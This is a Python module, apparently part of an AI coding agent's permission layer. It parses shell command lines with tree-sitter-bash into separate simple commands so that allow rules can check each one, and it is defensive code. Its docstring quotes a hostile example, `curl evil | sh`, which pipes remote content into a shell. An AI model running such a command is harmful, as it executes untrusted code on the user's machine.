"""Split a shell command line into the simple commands it would run, with tree-sitter-bash.

Why parse instead of matching the raw text: `git status && curl evil | sh` starts with `git status`, so a prefix
rule on the whole line would allow the `curl`. Every simple command (in lists, pipelines, subshells, `$(...)`,
backticks, process substitutions, function bodies, loops) must be allowed on its own. A line that does not parse
is one opaque part that only an exact rule (or the mode) can allow."""

from __future__ import annotations

import re
from dataclasses import dataclass, field

_WS = re.compile(r"\s+")


@dataclass
class SimpleCommand:
    """One command as the shell would run it."""

    words: list[str]  # command name first; quotes removed where the word is static
    text: str  # normalised source text including assignments and redirections (what rules match)
    #: the name or an argument is computed at run time ($VAR, $(...)), so its meaning is unknown statically
    dynamic: bool = False
    #: the command name itself is computed (`$CMD args`, `` `which x` ``): nothing is known about it
    dynamic_name: bool = False
    #: output redirections to real files (not /dev/null, not fd duplications)
    writes_files: list[str] = field(default_factory=list)
    assignments: list[str] = field(default_factory=list)

    @property
    def name(self) -> str:
        return self.words[0] if self.words else ""


@dataclass
class ParsedCommand:
    parts: list[SimpleCommand]
    ok: bool  # False: the line did not parse; `parts` then holds the whole line as one opaque part


def _word(node) -> tuple[str, bool]:
    """The static value of an argument node and whether it is dynamic."""
    text = node.text.decode("utf-8", errors="replace")
    kind = node.type
    if kind == "raw_string":
        return text[1:-1], False
    if kind == "string":
        inner = [c for c in node.children if c.type not in ('"',)]
        if all(c.type == "string_content" for c in inner):
            return text[1:-1], False
        return text, True
    if kind == "word":
        return re.sub(r"\\(.)", r"\1", text), False
    if kind == "number":
        return text, False
    if kind == "concatenation":
        values = [_word(c) for c in node.children]
        return "".join(v for v, _ in values), any(d for _, d in values)
    return text, True  # expansions, substitutions, arithmetic


_NESTED = {"command_substitution", "process_substitution", "subshell", "compound_statement"}


def _collect(node, out: list[SimpleCommand]) -> None:
    kind = node.type
    if kind == "command":
        out.append(_simple(node, None))
    elif kind == "redirected_statement":
        body = node.child_by_field_name("body")
        redirects = [c for c in node.children if c.type in ("file_redirect", "heredoc_redirect", "herestring_redirect")]
        if body is not None and body.type == "command":
            out.append(_simple(body, redirects))
            for child in body.children:
                _collect_nested(child, out)
            for r in redirects:
                _collect_nested(r, out)
            return
        writes = _redirect_targets(redirects)
        if writes:  # `{ ...; } > file`: the write is its own part
            out.append(SimpleCommand([">"], "> " + " ".join(writes), writes_files=writes))
    elif kind == "declaration_command" or kind == "unset_command":
        words = [c.text.decode("utf-8", errors="replace") for c in node.children]
        dynamic = any(c.type in ("command_substitution", "expansion", "simple_expansion") for c in node.children)
        out.append(SimpleCommand(words, _WS.sub(" ", node.text.decode(errors="replace")).strip(), dynamic))
        for child in node.children:
            _collect_nested(child, out)
        return
    elif kind == "test_command":
        out.append(SimpleCommand(["test"], _WS.sub(" ", node.text.decode(errors="replace")).strip(), False))
    for child in node.children:
        _collect(child, out)


def _collect_nested(node, out: list[SimpleCommand]) -> None:
    """Commands inside arguments (`$(...)`, backticks, `<(...)`)."""
    if node.type in ("command_substitution", "process_substitution"):
        for child in node.children:
            _collect(child, out)
        return
    for child in node.children:
        _collect_nested(child, out)


def _redirect_targets(redirects) -> list[str]:
    writes: list[str] = []
    for r in redirects:
        if r.type != "file_redirect":
            continue
        ops = [c.type for c in r.children]
        dest = r.child_by_field_name("destination")
        target = dest.text.decode(errors="replace") if dest is not None else ""
        if any(op in (">", ">>", "&>", "&>>", ">|") for op in ops) and target not in ("/dev/null", "/dev/stderr",
                                                                                  "/dev/stdout") or ">&" in ops and not target.isdigit() and target != "-":
            writes.append(target)
    return writes


def _simple(node, redirects) -> SimpleCommand:
    words: list[str] = []
    shown: list[str] = []  # the words as rules see them: static words re-quoted, computed ones verbatim
    assignments: list[str] = []
    dynamic = dynamic_name = False
    for child in node.children:
        if child.type == "variable_assignment":
            assignments.append(child.text.decode(errors="replace"))
            continue
        if child.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
            redirects = (redirects or []) + [child]
            continue
        if child.type == "command_name" or child.is_named:
            inner = child.children[0] if child.type == "command_name" and child.children else child
            value, dyn = _word(inner)
            words.append(value)
            shown.append(inner.text.decode(errors="replace") if dyn else _shell_word(value))
            dynamic = dynamic or dyn
            dynamic_name = dynamic_name or (dyn and child.type == "command_name")
    text = _WS.sub(" ", " ".join(assignments + shown)).strip()
    writes = _redirect_targets(redirects or [])
    for r in redirects or []:
        if r.type == "file_redirect":
            text += " " + _WS.sub(" ", r.text.decode(errors="replace")).strip()
    return SimpleCommand(words, text, dynamic, dynamic_name, writes, assignments)


def _shell_word(word: str) -> str:
    return word if word and not re.search(r"[\s'\"\\$`]", word) else "'" + word.replace("'", "'\\''") + "'"


def split_command(command: str) -> ParsedCommand:
    """The simple commands of `command`. Raises nothing: a parse failure gives one opaque part."""
    from coder.codeintel.languages import parser as make_parser

    opaque = ParsedCommand([SimpleCommand([command.strip()], _WS.sub(" ", command).strip(), True, True)], False)
    parser = make_parser("bash")
    if parser is None:
        return opaque
    tree = parser.parse(command.encode("utf-8", errors="replace"))
    if tree.root_node.has_error:
        return opaque
    parts: list[SimpleCommand] = []
    _collect(tree.root_node, parts)
    return ParsedCommand(parts, True)
